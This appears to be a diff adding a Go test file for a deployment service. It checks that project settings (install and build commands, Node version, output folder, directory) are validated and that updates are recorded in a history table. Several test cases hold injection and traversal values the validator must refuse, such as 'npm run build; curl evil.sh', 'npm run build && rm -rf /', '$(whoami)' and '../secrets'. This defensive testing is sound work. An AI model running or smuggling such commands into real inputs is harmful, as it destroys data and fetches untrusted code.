@@ -0,0 +1,395 @@
+package project
+
+import (
+	"context"
+	"database/sql"
+	"database/sql/driver"
+	"encoding/json"
+	"errors"
+	"httpServer/config"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/go-chi/chi/v5"
+	"github.com/go-chi/jwtauth/v5"
+)
+
+func TestMain(m *testing.M) {
+	sql.Register("projecttest", fakeDriver{})
+
+	db, err := sql.Open("projecttest", "")
+	if err != nil {
+		panic(err)
+	}
+	config.DataBase = db
+
+	os.Exit(m.Run())
+}
+
+func TestValidateSetting(t *testing.T) {
+	tests := []struct {
+		name  string
+		value string
+		valid bool
+	}{
+		{"install_command", "npm install", true},
+		{"install_command", "npm ci", true},
+		{"install_command", "npm i --legacy-peer-deps", true},
+		{"install_command", "yarn install", false},
+		{"install_command", "npm", false},
+		{"install_command", "npm publish", false},
+		{"install_command", "", false},
+		{"build_command", "npm run build", true},
+		{"build_command", "npm run-script build:prod", true},
+		{"build_command", "npm run", false},
+		{"build_command", "npm run build; curl evil.sh", false},
+		{"build_command", "npm run build && rm -rf /", false},
+		{"build_command", "npm run $(whoami)", false},
+		{"build_command", "npm install", false},
+		{"node_version", "20", true},
+		{"node_version", "18.19", true},
+		{"node_version", "22.1.0", true},
+		{"node_version", " 16 ", true},
+		{"node_version", "14", false},
+		{"node_version", "20; rm -rf /", false},
+		{"node_version", "lts", false},
+		{"node_version", "", false},
+		{"output_folder", "dist", true},
+		{"output_folder", "./dist", true},
+		{"output_folder", "apps/web/build", true},
+		{"output_folder", "", true},
+		{"output_folder", "/etc", false},
+		{"output_folder", "../secrets", false},
+		{"output_folder", "dist/../../secrets", false},
+		{"directory", "packages/site", true},
+		{"directory", "site dir", false},
+		{"directory", "$HOME", false},
+	}
+
+	for _, test := range tests {
+		t.Run(test.name+" "+test.value, func(t *testing.T) {
+			err := validateSetting(test.name, test.value)
+
+			if test.valid && err != nil {
+				t.Errorf("refused: %v", err)
+			}
+			if !test.valid && err == nil {
+				t.Errorf("accepted")
+			}
+		})
+	}
+}
+
+func TestValidateCommandNamesTheSetting(t *testing.T) {
+	tests := []struct {
+		command string
+		message string
+	}{
+		{"yarn build", "build_command must be one of npm run, npm run-script"},
+		{"npm run", "build_command must name the script to run"},
+		{"npm run build|tee", `build_command contains an unsupported argument "build|tee"`},
+	}
+
+	for _, test := range tests {
+		t.Run(test.command, func(t *testing.T) {
+			err := validateCommand("build_command", test.command, []string{"run", "run-script"})
+			if err == nil || err.Error() != test.message {
+				t.Errorf("err = %v, want %q", err, test.message)
+			}
+		})
+	}
+}
+
+// creating a project checks the same settings a PATCH does before anything is stored
+func TestCreateRefusesInvalidSettings(t *testing.T) {
+	tests := []struct {
+		name    string
+		body    string
+		setting string
+	}{
+		{"build command", `{"name": "site", "repo": "1", "build_command": "npm run build; curl evil.sh"}`, "build_command"},
+		{"node version", `{"name": "site", "repo": "1", "node_version": "20 && id"}`, "node_version"},
+		{"output folder", `{"name": "site", "repo": "1", "output_folder": "../../etc"}`, "output_folder"},
+		{"directory", `{"name": "site", "repo": "1", "directory": "/root"}`, "directory"},
+		{"empty install command", `{"name": "site", "repo": "1", "install_command": ""}`, "install_command"},
+	}
+
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			database.reset(projectSettings{})
+
+			w := httptest.NewRecorder()
+			ProjectHandler{}.CreateNewProject(w, request(t, "POST", "/new", test.body, ""))
+
+			if w.Code != http.StatusBadRequest || !strings.HasPrefix(w.Body.String(), test.setting) {
+				t.Errorf("status = %d, want 400 refusing %s: %s", w.Code, test.setting, w.Body.String())
+			}
+			if statements := database.statements(); len(statements) > 0 {
+				t.Errorf("the project reached the database: %v", statements)
+			}
+		})
+	}
+}
+
+func TestUpdateRecordsHistory(t *testing.T) {
+	current := projectSettings{
+		installCommand: "npm install",
+		buildCommand:   "npm run build",
+		outputFolder:   "dist",
+		nodeVersion:    "20",
+		directory:      "",
+		spaFallback:    true,
+	}
+
+	tests := []struct {
+		name    string
+		current projectSettings
+		body    string
+		status  int
+		// the changes written to project_history, nil when no row is written
+		changes map[string]SettingChange
+	}{
+		{
+			name:    "changed settings",
+			current: current,
+			body:    `{"build_command": "npm run build:prod", "node_version": "22"}`,
+			status:  http.StatusOK,
+			changes: map[string]SettingChange{
+				"build_command": {From: "npm run build", To: "npm run build:prod"},
+				"node_version":  {From: "20", To: "22"},
+			},
+		},
+		{
+			name:    "spa fallback",
+			current: current,
+			body:    `{"spa_fallback": false}`,
+			status:  http.StatusOK,
+			changes: map[string]SettingChange{"spa_fallback": {From: true, To: false}},
+		},
+		{
+			name:    "slashes are trimmed before comparing",
+			current: current,
+			body:    `{"output_folder": "./dist/", "directory": "/"}`,
+			status:  http.StatusOK,
+		},
+		{
+			name:    "same values",
+			current: current,
+			body:    `{"install_command": "npm install", "node_version": " 20 "}`,
+			status:  http.StatusOK,
+		},
+		{
+			name:    "invalid change",
+			current: current,
+			body:    `{"build_command": "npm run build", "node_version": "20; id"}`,
+			status:  http.StatusBadRequest,
+		},
+		{
+			name:    "invalid value stored before validation existed",
+			current: projectSettings{installCommand: "yarn", buildCommand: "yarn build", outputFolder: "dist", nodeVersion: "20"},
+			body:    `{"output_folder": "build"}`,
+			status:  http.StatusOK,
+			changes: map[string]SettingChange{"output_folder": {From: "dist", To: "build"}},
+		},
+	}
+
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			database.reset(test.current)
+
+			w := httptest.NewRecorder()
+			ProjectHandler{}.UpdateProject(w, request(t, "PATCH", "/1", test.body, "1"))
+
+			if w.Code != test.status {
+				t.Fatalf("status = %d, want %d: %s", w.Code, test.status, w.Body.String())
+			}
+
+			history := database.history()
+			if test.changes == nil {
+				if history != nil {
+					t.Errorf("history row written: %s", history)
+				}
+				return
+			}
+
+			if history == nil {
+				t.Fatal("no history row written")
+			}
+
+			var changes map[string]SettingChange
+			if err := json.Unmarshal(history, &changes); err != nil {
+				t.Fatal(err)
+			}
+
+			want, _ := json.Marshal(test.changes)
+			got, _ := json.Marshal(changes)
+			if string(got) != string(want) {
+				t.Errorf("history = %s, want %s", got, want)
+			}
+
+			if !database.committed() {
+				t.Errorf("the update was not committed")
+			}
+		})
+	}
+}
+
+// request is sent by user 1, id is the project id in the url
+func request(t *testing.T, method string, path string, body string, id string) *http.Request {
+	t.Helper()
+
+	claims := map[string]interface{}{"uId": 1, "sid": 1}
+	jwtauth.SetExpiryIn(claims, time.Minute)
+
+	token, _, err := jwtauth.New("HS256", []byte("project-test-secret"), nil).Encode(claims)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	routeContext := chi.NewRouteContext()
+	routeContext.URLParams.Add("id", id)
+
+	r := httptest.NewRequest(method, path, strings.NewReader(body))
+	ctx := context.WithValue(jwtauth.NewContext(r.Context(), token, nil), chi.RouteCtxKey, routeContext)
+
+	return r.WithContext(ctx)
+}
+
+type projectSettings struct {
+	installCommand string
+	buildCommand   string
+	outputFolder   string
+	nodeVersion    string
+	directory      string
+	spaFallback    bool
+}
+
+// database holds the settings of project 1 and what the handler did with them
+var database fakeDatabase
+
+type fakeDatabase struct {
+	mutex    sync.Mutex
+	settings projectSettings
+	log      []string
+	changes  []byte
+	commit   bool
+}
+
+func (d *fakeDatabase) reset(settings projectSettings) {
+	d.mutex.Lock()
+	defer d.mutex.Unlock()
+
+	d.settings, d.log, d.changes, d.commit = settings, nil, nil, false
+}
+
+// statements are the queries other than the alias lookup every create starts with
+func (d *fakeDatabase) statements() []string {
+	d.mutex.Lock()
+	defer d.mutex.Unlock()
+
+	return d.log
+}
+
+func (d *fakeDatabase) history() []byte {
+	d.mutex.Lock()
+	defer d.mutex.Unlock()
+
+	return d.changes
+}
+
+func (d *fakeDatabase) committed() bool {
+	d.mutex.Lock()
+	defer d.mutex.Unlock()
+
+	return d.commit
+}
+
+var errUnexpectedQuery = errors.New("query is not answered by the test database")
+
+type fakeDriver struct{}
+
+func (fakeDriver) Open(string) (driver.Conn, error) { return fakeConn{}, nil }
+
+type fakeConn struct{}
+
+func (fakeConn) Prepare(query string) (driver.Stmt, error) { return fakeStmt{query: query}, nil }
+func (fakeConn) Close() error                              { return nil }
+func (fakeConn) Begin() (driver.Tx, error)                 { return fakeTx{}, nil }
+
+type fakeTx struct{}
+
+func (fakeTx) Commit() error {
+	database.mutex.Lock()
+	defer database.mutex.Unlock()
+
+	database.commit = true
+	return nil
+}
+
+func (fakeTx) Rollback() error { return nil }
+
+type fakeStmt struct{ query string }
+
+func (fakeStmt) Close() error  { return nil }
+func (fakeStmt) NumInput() int { return -1 }
+
+func (s fakeStmt) Exec([]driver.Value) (driver.Result, error) {
+	database.mutex.Lock()
+	defer database.mutex.Unlock()
+
+	database.log = append(database.log, s.query)
+
+	if strings.Contains(s.query, `UPDATE "deploy-io".projects SET install_command`) {
+		return driver.RowsAffected(1), nil
+	}
+
+	return nil, errUnexpectedQuery
+}
+
+func (s fakeStmt) Query(args []driver.Value) (driver.Rows, error) {
+	database.mutex.Lock()
+	defer database.mutex.Unlock()
+
+	switch {
+	case strings.Contains(s.query, `"deploy-io".project_aliases`):
+		return &fakeRows{values: []driver.Value{false}}, nil
+	case strings.Contains(s.query, "FOR UPDATE"):
+		settings := database.settings
+		return &fakeRows{values: []driver.Value{settings.installCommand, settings.buildCommand, settings.outputFolder, settings.nodeVersion, settings.directory, settings.spaFallback}}, nil
+	}
+
+	database.log = append(database.log, s.query)
+
+	if strings.Contains(s.query, `INSERT INTO "deploy-io".project_history`) {
+		database.changes = args[2].([]byte)
+		return &fakeRows{values: []driver.Value{int64(1)}}, nil
+	}
+
+	return nil, errUnexpectedQuery
+}
+
+// fakeRows holds one row of values, or none when values is empty
+type fakeRows struct {
+	values []driver.Value
+	read   bool
+}
+
+func (r *fakeRows) Columns() []string { return make([]string, len(r.values)) }
+func (r *fakeRows) Close() error      { return nil }
+
+func (r *fakeRows) Next(dest []driver.Value) error {
+	if r.read || len(r.values) == 0 {
+		return io.EOF
+	}
+
+	copy(dest, r.values)
+	r.read = true
+
+	return nil
+}